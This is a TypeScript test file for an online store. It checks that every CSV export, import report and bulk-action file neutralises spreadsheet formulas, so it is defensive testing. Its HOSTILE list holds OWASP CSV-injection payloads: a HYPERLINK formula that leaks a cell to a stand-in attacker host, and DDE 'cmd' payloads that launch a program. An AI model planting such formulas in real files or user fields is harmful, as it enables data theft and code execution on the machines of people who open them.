import { api, type Endpoint, type Job } from '@haat/contract';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { authAs, createAdmin, createVendor, type FixtureUser } from '../test/fixtures.js';
import { settledJob } from '../test/jobs.js';
import { moneyKit } from '../test/money-kit.js';
import { insertManyProducts } from '../test/order-fixtures.js';
import { storeKit } from '../test/store-kit.js';
import { createTestApp, type TestApp } from '../test/test-app.js';

/**
 * Issue 33 'Formulas neutralised in every file' (decisions 0105, 0121): every CSV the
 * store writes, its downloads and its job files (an export's, an import's report, a bulk
 * action's) alike, goes through the one writer, which neutralises any cell a spreadsheet
 * would read as a formula. The routes that make files are found in the contract's
 * endpoint map, so a new one fails here until it is walked too; the store is seeded with
 * such cells wherever a person can type text that lands in a file.
 */

/** Cells an attacker types, each a formula in a spreadsheet (OWASP's CSV injection examples). */
const HOSTILE = [
  '=HYPERLINK("http://evil.example.test/?leak="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
] as const;
const hostile = (n: number) => HOSTILE[n % HOSTILE.length] as string;

/** A cell a spreadsheet reads as a formula: it starts with =, +, -, @, a tab or a carriage return, and is not a plain number. */
const isFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);

/** The GET routes of the contract that answer a file: a list's export, or a job's file. */
function fileRoutes(): string[] {
  const paths: string[] = [];
  for (const feature of Object.values(api) as Record<string, Endpoint>[])
    for (const endpoint of Object.values(feature)) {
      const { method, path = '' } = endpoint['~orpc'].route;
      if (method === 'GET' && /\/(export|file)$/.test(path)) paths.push(path);
    }
  return paths.sort();
}

let t: TestApp;
let admin: FixtureUser;
let vendor: FixtureUser & { businessName: string };
const tag = `neut${Date.now().toString(36)}`;

/** More products than an export answers at once, so their export and a bulk action over them run as jobs. */
const MANY = 10_001;

beforeAll(async () => {
  t = await createTestApp({ JOB_POLL_MS: '50', CONTACT_RATE_LIMIT: '1000', CHECKOUT_RATE_LIMIT: '100000' });
  admin = await createAdmin(t.db);
  vendor = await createVendor(t.db, { businessName: hostile(0), name: hostile(1) });
  const kit = storeKit(t, admin);
  const money = moneyKit(t, admin);

  // The vendor's product, sold to a customer who typed formulas into every field.
  const sold = await kit.product(50_000, 10, vendor.vendorId);
  await t.db
    .updateTable('products')
    .set({ name: `${hostile(2)} ${tag}`, brand: hostile(3), model: hostile(0), manufacturer: hostile(1) })
    .where('id', '=', sold)
    .execute();
  const order = await t.app.inject({
    method: 'POST',
    url: '/api/orders',
    headers: { 'content-type': 'application/json' },
    payload: JSON.stringify({
      items: [{ product: sold, quantity: 1 }],
      billingInfo: {
        fullName: hostile(0),
        email: `buyer-${tag}@example.test`,
        phone: '+91 90000 00001',
        note: hostile(1),
        // The province must name an Indian state since issue 35 (GST's place of supply).
        address: { fullAddress: hostile(2), city: hostile(3), province: 'Maharashtra' },
      },
      paymentMethod: 'UPI',
    }),
  });
  expect(order.statusCode, order.body).toBe(201);

  // A message through the contact form.
  const contact = await t.app.inject({
    method: 'POST',
    url: '/api/contacts',
    headers: { 'content-type': 'application/json' },
    payload: JSON.stringify({ name: hostile(1), email: `writer-${tag}@example.test`, message: hostile(2) }),
  });
  expect(contact.statusCode, contact.body).toBe(201);

  // The vendor's ledger and a payout to a bank account whose holder is a formula.
  await money.bank(vendor);
  const adjusted = await t.app.inject({
    method: 'POST',
    url: `/api/payouts/admin/vendors/${vendor.vendorId}/adjustments`,
    headers: { ...authAs(t.app, admin), 'content-type': 'application/json' },
    payload: JSON.stringify({ amount: 5_000, reason: hostile(3) }),
  });
  expect(adjusted.statusCode, adjusted.body).toBe(201);
  await money.payAll({ vendorIds: [vendor.vendorId] });
  await t.db
    .updateTable('payouts')
    .set({ accountHolder: hostile(0) })
    .execute();

  // The store's own products, more than an export answers at once.
  await insertManyProducts(t.db, MANY, (i) => ({
    name: `${hostile(i)} ${tag} ${i}`,
    productDetails: hostile(i + 1),
    brand: hostile(i + 2),
    color: hostile(i + 3),
    sku: `${hostile(i).slice(0, 12)}-${tag}-${i}`,
  }));
}, 300_000);
afterAll(() => t.close());

function get(url: string, as: FixtureUser) {
  return t.app.inject({ method: 'GET', url, headers: authAs(t.app, as) });
}

/** Every cell of a CSV download (BOM, header and rows). */
function cellsOf(body: string): string[] {
  expect(body.startsWith('\uFEFF')).toBe(true);
  return (parse(body.slice(1), { relax_column_count: false }) as string[][]).flat();
}

/** Checks that no cell of `body` is a formula; answers its cells. */
function expectNeutral(what: string, body: string): string[] {
  const cells = cellsOf(body);
  expect(cells.length, what).toBeGreaterThan(0);
  expect(cells.filter(isFormula), what).toEqual([]);
  return cells;
}

/** Checks that `cells` hold hostile text, neutralised (so the file was seeded, and the check means something). */
function expectNeutralised(what: string, cells: string[]) {
  expect(
    cells.some((cell) => HOSTILE.some((text) => cell.startsWith(`'${text}`))),
    `${what} holds a neutralised formula`,
  ).toBe(true);
}

/** A CSV answered at once, checked; answers its cells. */
async function download(url: string, as: FixtureUser): Promise<string[]> {
  const res = await get(url, as);
  expect(res.statusCode, `${url}: ${res.body.slice(0, 200)}`).toBe(200);
  expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
  return expectNeutral(url, res.body);
}

/** A job's file once the job is done, checked; answers its cells. */
async function jobFile(what: string, started: { statusCode: number; body: string }): Promise<string[]> {
  expect(started.statusCode, started.body.slice(0, 200)).toBe(202);
  const id = (JSON.parse(started.body) as { job: Job }).job._id;
  const job = await settledJob(t.app, id, admin, { timeoutMs: 240_000, everyMs: 100 });
  expect(job.error, what).toBeNull();
  const file = await get(job.downloadUrl as string, admin);
  expect(file.statusCode, what).toBe(200);
  return expectNeutral(what, file.body);
}

describe('every CSV the store writes (issue 33)', () => {
  it('walks every route of the contract that answers a file', () => {
    expect(fileRoutes()).toEqual([
      '/api/activity/export',
      '/api/contacts/export',
      '/api/customers/admin/export',
      '/api/jobs/{id}/file',
      '/api/orders/admin/orders/export',
      '/api/payouts/admin/export',
      '/api/products/admin/all/export',
      '/api/tax/admin/gstr8/export',
      '/api/vendor/earnings/export',
      '/api/vendor/orders/export',
    ]);
  });

  it.each([
    ['/api/products/admin/all/export?vendor=VENDOR', 'admin'],
    ['/api/products/admin/all/export', 'vendor'],
    ['/api/orders/admin/orders/export', 'admin'],
    ['/api/vendor/orders/export', 'vendor'],
    ['/api/customers/admin/export', 'admin'],
    ['/api/contacts/export', 'admin'],
    ['/api/activity/export', 'admin'],
    ['/api/vendor/earnings/export', 'vendor'],
    ['/api/payouts/admin/export', 'admin'],
  ] as const)('neutralises every formula in %s (as %s)', async (url, as) => {
    const cells = await download(url.replace('VENDOR', String(vendor.vendorId)), as === 'admin' ? admin : vendor);
    expectNeutralised(url, cells);
  });

  it('writes the GSTR-8 file through the same writer: GSTINs, state codes and figures, no formula', async () => {
    // No text a person typed reaches it (decision 0149), so there is nothing hostile to find:
    // the file is checked to be CSV with no cell read as a formula.
    const month = new Date().toISOString().slice(0, 7);
    const cells = await download(`/api/tax/admin/gstr8/export?month=${month}`, admin);
    expect(cells.length).toBeGreaterThan(0);
  });

  it("neutralises every formula in an import's report", async () => {
    const csv = [
      'SKU,Product name,Product details,Brand,Sale price,Actual price,Stock quantity,Category',
      `"${hostile(0).replaceAll('"', '""')}",${hostile(1)},${hostile(2)},${hostile(3)},100,120,1,Imported`,
      `${hostile(1)}-2,"${hostile(0).replaceAll('"', '""')}",Details,Brand,100,120,1,Imported`,
      `${hostile(2)},${hostile(3)},Details,Brand,not a price,120,1,Imported`,
      `${hostile(3)},,Details,Brand,100,120,1,`,
    ].join('\n');
    const started = await t.app.inject({
      method: 'POST',
      url: '/api/products/import',
      headers: { ...authAs(t.app, admin), 'content-type': 'application/json' },
      payload: JSON.stringify({ csv }),
    });
    const cells = await jobFile("the import's report", started);
    expectNeutralised("the import's report", cells);
    // The activity log now holds the imported names too; its file stays neutral.
    expectNeutralised('the activity log', await download('/api/activity/export', admin));
  }, 300_000);

  it("neutralises every formula in an export run as a job, and in a bulk action's file", async () => {
    const exported = await jobFile('the export job', await get(`/api/products/admin/all/export?search=${tag}`, admin));
    expectNeutralised('the export job', exported);
    expect(exported.length).toBeGreaterThan(MANY);

    const bulk = await t.app.inject({
      method: 'POST',
      url: '/api/products/admin/bulk',
      headers: { ...authAs(t.app, admin), 'content-type': 'application/json' },
      payload: JSON.stringify({ action: 'activate', filter: { search: tag } }),
    });
    // Every product is active already: the file lists each with the reason (texts of the store's, no cell typed by anyone).
    const cells = await jobFile("the bulk action's file", bulk);
    expect(cells.length).toBeGreaterThan(MANY);
  }, 600_000);
});
